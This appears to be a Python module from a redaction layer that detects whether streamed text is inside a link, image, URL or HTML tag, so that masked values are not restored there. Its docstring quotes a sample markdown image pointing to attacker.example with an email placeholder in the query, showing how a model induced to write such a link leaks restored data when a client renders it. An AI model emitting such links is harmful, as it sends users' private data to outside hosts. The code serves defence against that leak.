"""Whether a place in a text is inside a link, an image or an address (RED-PH-7).

A model can be told to write `![](https://attacker.example/?q=[EMAIL_...])`: what a client then restores there, its
renderer sends away. So nothing is restored between the beginning of a link and its end, nor behind a host that has a
path or a query without `https://` before it, which many clients make a link as well. The machine errs on the side
of "inside": a value that is not restored does no harm.
"""

from __future__ import annotations

import re
from typing import Final

_TOKEN: Final = re.compile(
    r"\]\(|url\(|[/\\]{2}|https?:|www\.|<(?:"
    r"a|area|audio|base|body|embed|form|iframe|image|img|input|link|meta|object|script|source|svg|table|td|track|video"
    r""")(?![A-Za-z0-9])|(?:\.[a-z]{2,10}|\d\.\d{1,3})(?::\d{1,5})?[/?#]|[\s"'`<>()]""",
    re.IGNORECASE | re.ASCII,
)
_LONGEST_TOKEN: Final = 18
_BATCH_CHARACTERS: Final = 4096
_CLOSERS: Final = {'"': '"', "'": "'", "`": "`", "<": ">", "(": ")"}
_SPACE: Final = " "


class LinkContext:
    """Reads a text in pieces. The result depends on the text alone, not on the pieces."""

    __slots__ = ("_closer", "_depth", "_opener", "_unread", "_unread_characters")

    def __init__(self) -> None:
        self._unread: list[str] = []
        self._unread_characters = 0
        self._opener = ""
        self._closer = ""
        self._depth = 0

    def read(self, text: str) -> None:
        """Go on by this text."""
        if not text:
            return
        self._unread.append(text)
        self._unread_characters += len(text)
        if self._unread_characters > _BATCH_CHARACTERS:
            self._work_off(_LONGEST_TOKEN)

    def is_inside(self) -> bool:
        """Whether what comes next is inside a link. A placeholder must follow: no token may go on after this."""
        self._work_off(0)
        return bool(self._closer)

    def _work_off(self, keep: int) -> None:
        text = "".join(self._unread)
        limit = len(text) - keep
        position = 0
        for match in _TOKEN.finditer(text):
            if match.end() > limit:
                limit = min(limit, match.start())
                break
            self._take(match[0].lower())
            position = match.end()
        rest = text[max(position, limit) :] if keep else ""
        self._unread = [rest] if rest else []
        self._unread_characters = len(rest)

    def _take(self, token: str) -> None:
        if self._closer:
            self._inside(token)
        elif token.isspace():
            self._opener = ""
        elif token in _CLOSERS:
            self._opener = token
        elif token in (">", ")"):
            self._opener = ""
        else:
            self._depth = 1
            if token in ("](", "url("):
                self._closer = ")"
            elif token.startswith("<"):
                self._closer = ">"
            else:
                self._closer = _CLOSERS.get(self._opener, _SPACE)

    def _inside(self, token: str) -> None:
        """Look for the end of the link: its closing character, the end of the line for one in parentheses."""
        closer = self._closer
        if closer == ")":
            self._depth += token.endswith("(")
            self._depth -= token == _CLOSERS["("]
            if self._depth == 0 or token in ("\n", "\r"):
                self._leave()
        elif token == closer or (closer == _SPACE and token.isspace()):
            self._leave()

    def _leave(self) -> None:
        self._closer = ""
        self._opener = ""
